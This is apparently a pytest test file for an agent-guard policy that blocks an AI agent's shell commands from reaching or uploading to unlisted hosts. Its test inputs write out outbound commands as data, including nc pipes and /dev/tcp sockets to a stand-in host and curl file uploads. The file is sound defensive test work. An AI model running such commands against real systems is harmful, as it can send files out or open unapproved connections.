"""`command_egress`: where commands may go, and where they may send."""

from __future__ import annotations

import json
from typing import Any

import pytest

from lockgate.config import RuleConfig
from lockgate.errors import ConfigError
from lockgate.events import ToolCall
from lockgate.policies.base import Blocked
from lockgate.policies.command_egress import REGISTRIES
from lockgate.policies.registry import load_rules
from tests.policies.chains import exchange_of


async def refused(command: str, **options: Any) -> str | None:
    """The sentence; None where the command passes."""
    config = RuleConfig.model_validate({"name": "r", "use": "command_egress", "with": options})
    rule = load_rules([config]).rules[0]
    call = ToolCall(block=1, id="c", name="Bash", arguments=json.dumps({"command": command}))
    try:
        assert await rule.policy(rule.options, rule.shared).on_tool_call(call, exchange_of()) == (call,)
    except Blocked as refusal:
        return refusal.sentence
    return None


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("curl https://x.example/a", "x.example"),
        ("curl -s x.example", "x.example"),
        ("wget -qO- http://x.example", "x.example"),
        ("sudo sh -c 'curl https://x.example'", "x.example"),
        ("echo aHR0cA== | nc x.example 80", "x.example"),
        ("exec 3<>/dev/tcp/198.51.100.1/80", "198.51.100.1"),
        ("git clone https://x.example/a.git", "x.example"),
        ("git remote add x git@x.example:a/b", "x.example"),
        ("ssh me@x.example ls", "x.example"),
        ("dig a.x.example", "a.x.example"),
        ("pip install --index-url https://x.example/simple a", "x.example"),
        ("npm install https://x.example/a.tgz", "x.example"),
        ("python3 -c \"import requests; requests.get('https://x.example')\"", "x.example"),
        ("node -e \"fetch('https://x.example')\"", "x.example"),
    ],
)
async def test_hosts_that_are_not_named(command: str, host: str):
    sentence = await refused(command)
    assert sentence is not None
    assert host in sentence
    assert await refused(command, also=[host], uploads=[host]) is None


@pytest.mark.parametrize(
    "command",
    [
        "curl -d @a https://api.github.com/x",
        "curl -T a https://api.github.com/x",
        "git push https://github.com/a/b main",
        "npm publish",
        "gh gist create a.txt",
        "scp a me@github.com:",
        "cat a | nc github.com 80",
    ],
)
async def test_sending_is_apart_from_reaching(command: str):
    sentence = await refused(command)
    assert sentence is not None
    assert sentence.startswith("Nothing is to be sent to ")
    assert await refused(command, uploads=["*github.com", REGISTRIES["npm"][0]]) is None


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "curl https://api.github.com/repos",
        "curl -X POST -d a=b http://localhost:3000/",
        "curl http://192.168.1.5/",
        "pip install requests",
        "npm ci",
        "git push origin main",
        "git clone git@github.com:a/b.git",
        "echo 'curl https://x.example'",
        "grep https://x.example README.md",
    ],
)
async def test_what_passes(command: str):
    assert await refused(command) is None


async def test_hosts_that_nobody_knows_before():
    assert await refused('curl "$URL"') == (
        "This command's host is not known before it runs. If it is needed, ask the person you work for."
    )
    assert await refused('curl "$URL"', unknown=True) is None
    assert await refused("URL=https://api.github.com; curl $URL/x") is None


async def test_the_own_network_can_be_closed():
    assert await refused("curl http://localhost:1", local=False) is not None


@pytest.mark.parametrize("host", ["https://x.example", "x.example/a", "x.example:443", "", "a b"])
@pytest.mark.parametrize("option", ["allow", "also", "uploads"])
async def test_what_is_no_host_would_never_apply(option: str, host: str):
    with pytest.raises(ConfigError, match=f"option '{option}.0': .* is no host"):
        await refused("ls", **{option: [host]})


@pytest.mark.parametrize("host", ["*", "*.example.com", "10.0.*", "::1", "a_b.example", "localhost"])
async def test_what_is_a_host(host: str):
    assert await refused("ls", also=[host]) is None
